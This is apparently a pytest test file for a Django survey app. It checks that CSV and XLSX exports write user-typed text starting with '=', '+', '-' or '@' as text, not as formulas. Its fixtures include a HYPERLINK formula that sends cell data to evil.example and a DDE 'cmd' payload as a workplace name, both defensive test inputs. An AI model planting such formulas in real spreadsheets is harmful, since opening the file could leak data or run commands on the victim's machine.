"""Cells that run as formulas (issue 13, item 1): every text a person typed is written as
text in every CSV and XLSX the app makes, numbers stay numbers, and an export imports
unchanged."""

import csv
import enum
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from barometer.models import Indicator
from surveys.models import Answer, Invitation, Question, Response, Round, RoundKind, Workplace, WorkplaceType
from surveys.services.response_files import csv_lines, export_rows, import_responses, write_xlsx
from surveys.tabular.writing import SafeCsvWriter, csv_row, csv_value, neutralise, restore, xlsx_row
from tests.builders import ResponseBuilder, innovator
from tests.hypothesis_profiles import example_count

FACTORS = ("safe_operations", "mistakes", "internal_collaboration", "technology", "economy", "employee_involvement",
           "user_involvement", "political")  # fmt: skip


def lazy_text(text: str):
    """A lazily translated text (a string subclass's proxy), as forms and labels hand over."""
    from django.utils.functional import lazy

    return lazy(lambda: text, str)()


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"See report")'


class PlainStrEnum(str, enum.Enum):  # noqa: UP042 (the point: no StrEnum __str__)
    """A string enum without Django's ``__str__``: ``str()`` gives ``PlainStrEnum.FORMULA``."""

    FORMULA = "=1+1"
    PLAIN = "plain"


class OddStr(str):
    """A string whose ``__str__`` says something else than its characters."""

    def __str__(self):
        return "=cmd"


@pytest.fixture
def analyst(django_user_model):
    user = django_user_model.objects.create_user("analytiker", password="correct-horse-battery")
    user.groups.add(Group.objects.get(name="Analytikere"))
    return user


def _with_description(national_round, municipality, text: str) -> Response:
    response = ResponseBuilder(national_round).submitted(
        workplace_type=WorkplaceType.PRIMARY_SCHOOL,
        municipality=municipality,
        answers=innovator(**{f"factor_{factor}": ["4"] for factor in FACTORS}),
    )
    question = Question.objects.get(question_set=national_round.question_set, code="newest_description")
    Answer.objects.create(response=response, question=question, text_value=text)
    return response


@pytest.mark.parametrize("text", ["=1+1", "+47 1", "-5 %", "@SUM(A1)", "\tx", "'=already quoted", "'plain", "plain"])
def test_neutralising_is_undone_exactly(text):
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [("plain", "plain"), ("=1+1", "'=1+1"), ("", ""), (None, ""), (3, 3), (-2.5, -2.5),
     (Decimal("-1.5"), Decimal("-1.5")), (True, "True"), (WorkplaceType.NURSING_HOME, "nursing_home"),
     (RoundKind.NATIONAL, "national"), (lazy_text("-1 point"), "'-1 point"), (PlainStrEnum.FORMULA, "'=1+1"),
     (PlainStrEnum.PLAIN, "plain"), (OddStr("x"), "x")],
)  # fmt: skip
def test_every_kind_of_cell_value_is_written_by_the_rule(value, cell):
    """Numbers as numbers (not ``bool``), ``None`` empty, and every other value, string
    subclasses and lazy texts included, as text neutralised by the rule; a string subclass
    by its own characters, as :mod:`csv` writes it, whatever its ``__str__`` says."""
    written = csv_value(value)
    assert written == cell and type(written) is type(cell)


def test_an_xlsx_cell_holds_a_string_subclass_by_its_own_characters():
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet()
    plain, formula, odd = xlsx_row(sheet, [PlainStrEnum.PLAIN, PlainStrEnum.FORMULA, OddStr("x")])
    assert (plain, type(plain)) == ("plain", str)
    assert (formula.value, formula.data_type) == ("=1+1", "s")
    assert (odd, type(odd)) == ("x", str)


#: Texts made mostly of the characters that matter to the writer: formula starts, the
#: apostrophe, the delimiters and quotes of the dialects below, line breaks.
TRICKY_TEXT = st.text(alphabet=st.sampled_from("=+-@\t\r\n'\";,| ab1"), max_size=6) | st.text(max_size=6)
CELL = st.one_of(
    TRICKY_TEXT, st.none(), st.booleans(), st.integers(-10**6, 10**6),
    st.floats(allow_nan=False), st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.sampled_from(list(WorkplaceType)), TRICKY_TEXT.map(lazy_text), st.dates(),
    st.sampled_from(list(PlainStrEnum)), TRICKY_TEXT.map(OddStr),
)  # fmt: skip
DIALECTS = [{}, {"delimiter": ";"}, {"delimiter": "|", "quotechar": "'"}, {"quoting": csv.QUOTE_ALL},
            {"quoting": csv.QUOTE_NONNUMERIC}, {"escapechar": "\\", "doublequote": False}]  # fmt: skip


@settings(max_examples=example_count(1000), deadline=None)
@given(rows=st.lists(st.lists(CELL, max_size=8), min_size=1, max_size=4), dialect=st.sampled_from(DIALECTS))
def test_the_csv_writer_writes_every_row_as_the_rule_does_cell_by_cell(rows, dialect):
    """``SafeCsvWriter`` writes a row as it is when no cell can need neutralising; whatever
    the row and dialect, the text is exactly that of every cell passed through the rule."""
    written, expected = io.StringIO(), io.StringIO()
    SafeCsvWriter(written, **dialect).writerows(rows)
    csv.writer(expected, **dialect).writerows(csv_row(row) for row in rows)
    assert written.getvalue() == expected.getvalue()


def test_raw_export_writes_a_formula_as_text_in_csv_and_xlsx(client, analyst, national_round, municipality):
    _with_description(national_round, municipality, FORMULA)
    client.force_login(analyst)
    text = b"".join(client.get(f"/statistikk/data/svar.csv?round={national_round.slug}").streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["newest_description"] == "'" + FORMULA
    assert row["size_class"].isdigit() and row["employees_band"] == "20-49"  # numbers stay numbers

    xlsx = client.get(f"/statistikk/data/svar.xlsx?round={national_round.slug}").getvalue()
    workbook = load_workbook(io.BytesIO(xlsx))
    sheet = workbook["svar"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("newest_description") + 1)
    assert cell.data_type == "s" and cell.value == FORMULA
    assert sheet.cell(row=2, column=header.index("size_class") + 1).data_type == "n"
    assert all(c.data_type != "f" for row in workbook["kodebok"].iter_rows() for c in row)


def test_codebook_says_how_texts_are_neutralised(client, analyst, national_round):
    client.force_login(analyst)
    text = b"".join(client.get(f"/statistikk/data/kodebok.csv?round={national_round.slug}").streaming_content).decode()
    note = list(csv.reader(io.StringIO(text)))[-1]
    assert note[2] == "note" and "The import removes it again" in note[6]


@pytest.mark.parametrize("text", ["-20 % sykefravær, =målt", "'=1+1", "'+47", "'plain", "=SUM(A1)"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_leaves_a_text_unchanged(national_round, municipality, barometer_data, tmp_path, text,
                                                     file_format):  # fmt: skip
    """CSV neutralises and the import restores; XLSX writes texts as they are, so the import
    must not "restore" them (``'=1+1`` in a workbook cell is the text ``'=1+1``)."""
    _with_description(national_round, municipality, text)
    rows = list(export_rows(national_round, full=True))  # the admins' form, which the import reads
    name = rows[0].index("workplace")
    for row in rows[1:]:
        row[name] = row[name] or "Kopi skole"
    path = tmp_path / f"svar.{file_format}"
    if file_format == "csv":
        path.write_text("".join(csv_lines(rows)), encoding="utf-8-sig")
    else:
        write_xlsx(path, {"svar": rows})
    target = Round.objects.create(
        slug="kopi", name="Kopi", kind=RoundKind.NATIONAL, question_set=national_round.question_set,
        opens_at=national_round.opens_at, closes_at=national_round.closes_at,
    )  # fmt: skip
    import_responses(target, path)
    imported = Answer.objects.get(response__round=target, question__code="newest_description")
    assert imported.text_value == text


def test_aggregate_exports_write_texts_as_text(client, analyst, national_round, barometer_data, municipality):
    Indicator.objects.filter(pk=Indicator.objects.order_by("pk").first().pk).update(name_nb=FORMULA)
    client.force_login(analyst)
    text = client.get(f"/statistikk/eksport.csv?round={national_round.pk}").content.decode("utf-8-sig")
    assert "'" + FORMULA in {row["name"] for row in csv.DictReader(io.StringIO(text))}
    workbook = load_workbook(io.BytesIO(client.get(f"/statistikk/eksport.xlsx?round={national_round.pk}").content))
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)


def test_non_respondent_list_writes_a_workplace_name_as_text(admin_client, national_round, municipality):
    workplace = Workplace.objects.create(
        name="=cmd|' /C calc'!A0", workplace_type=WorkplaceType.PRIMARY_SCHOOL, municipality=municipality
    )
    Invitation.objects.create(round=national_round, workplace=workplace, email="leder@example.invalid")
    text = admin_client.get(f"/statistikk/runder/{national_round.slug}/ikke-svart.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["workplace"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["email"] == "leder@example.invalid"


def test_the_export_command_and_the_web_download_both_write_a_byte_order_mark(client, analyst, national_round,
                                                                             municipality, tmp_path):  # fmt: skip
    """Both UTF-8 with a byte-order mark, so Excel reads the Norwegian letters either way. The
    command writes the admins' full form, the web download the analysts' form; their
    answer columns are the same text."""
    from django.core.management import call_command

    _with_description(national_round, municipality, "Blåbær og ærfugl")
    client.force_login(analyst)
    web = b"".join(client.get(f"/statistikk/data/svar.csv?round={national_round.slug}").streaming_content)
    path = tmp_path / "svar.csv"
    call_command("export_responses", "--round", national_round.slug, "-o", str(path))
    written = path.read_bytes()
    assert web.startswith(b"\xef\xbb\xbf") and written.startswith(b"\xef\xbb\xbf")
    web_rows = list(csv.DictReader(io.StringIO(web.decode("utf-8-sig"))))
    full_rows = list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"))))
    assert [row["newest_description"] for row in web_rows] == [row["newest_description"] for row in full_rows]
    assert "Blåbær og ærfugl" in {row["newest_description"] for row in full_rows}
